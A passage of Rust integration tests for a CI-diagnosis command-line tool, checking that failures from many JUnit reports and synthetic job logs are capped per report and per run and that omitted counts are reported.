    let mut x = String::from("<?xml version=\"1.0\"?>\n<testsuite name=\"s\">\n");
    for i in 0..failing {
        x.push_str(&format!(
            "<testcase classname=\"tests.{tag}\" name=\"t{i}\"><failure message=\"assert {i} == 0\"/></testcase>\n"
        ));
    }
    x.push_str("<testcase name=\"passes\"/>\n</testsuite>\n");
    x.into_bytes()
}

#[test]
fn failures_are_capped_per_report_and_per_run_and_counted() {
    // Six reports of 1,200 failures: each keeps 1,000, the run 5,000.
    let reports: Vec<(String, Vec<u8>)> = (0..6)
        .map(|r| {
            (
                format!("reports/junit-{r}.xml"),
                junit(1_200, &r.to_string()),
            )
        })
        .collect();
    let entries: Vec<(&str, &[u8])> = reports
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    let tmp = tempfile::tempdir().expect("tempdir");
    let p = tmp.path().join("artifact.zip");
    std::fs::write(&p, zip_of(&entries)).expect("write");
    let out = run(autoheal().args(["diagnose", "--format", "json"]).arg(&p));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(v["failures"].as_array().map(Vec::len), Some(5_000));
    assert_eq!(v["omitted_failures"], 7_200 - 5_000);
    assert_eq!(v["failures"][0]["step"], "tests.0.t0");
    assert_eq!(v["failures"][4_999]["step"], "tests.4.t999");
    for r in 0..5 {
        let note = format!(
            "note: {}:reports/junit-{r}.xml: 1200 failing tests, 1000 kept",
            p.display()
        );
        assert!(out.stderr.contains(&note), "{note}\n{}", out.stderr);
    }
    assert!(
        out.stderr.contains(
            "note: 2200 more failure(s) not kept (at most 1000 per report and 5000 per run)"
        ),
        "{}",
        out.stderr
    );
    // The text report says so at its end, and stays small.
    let out = run(autoheal().arg("diagnose").arg(&p));
    assert_eq!(out.code, 0);
    assert!(
        out.stdout
            .ends_with("… and 2200 more failure(s) not kept\n"),
        "{}",
        &out.stdout[out.stdout.len() - 200..]
    );
    assert!(
        out.stdout.len() < 8 << 20,
        "{} bytes of report",
        out.stdout.len()
    );
}

#[test]
fn forged_steps_across_jobs_are_capped_and_counted() {
    // 40 jobs of 1,000 failing steps each: 40,000 failures, 5,000 kept.
    let mut step = String::new();
    let jobs: Vec<(String, Vec<u8>)> = (0..40)
        .map(|j| {
            let mut body = String::new();
            for s in 0..1_000 {
                step.clear();
                step.push_str(&format!("##[group]Run forged {s}\n##[endgroup]\n"));
                for _ in 0..50 {
                    step.push_str("x\n");
                }
                step.push_str("##[error]Process completed with exit code 1.\n");
                body.push_str(&step);
            }
            (format!("{}_job{j}.txt", j + 1), body.into_bytes())
        })
        .collect();
    let entries: Vec<(&str, &[u8])> = jobs
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    let tmp = tempfile::tempdir().expect("tempdir");
    let p = tmp.path().join("run.zip");
    std::fs::write(&p, zip_of(&entries)).expect("write");
    let out = run(autoheal().args(["diagnose", "--format", "json"]).arg(&p));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(v["failures"].as_array().map(Vec::len), Some(5_000));
    assert_eq!(v["omitted_failures"], 35_000);
    assert_eq!(v["failures"][0]["job"], "job0");
    assert!(
        out.stderr.contains("note: 35000 more failure(s) not kept"),
        "{}",
        out.stderr
    );
}
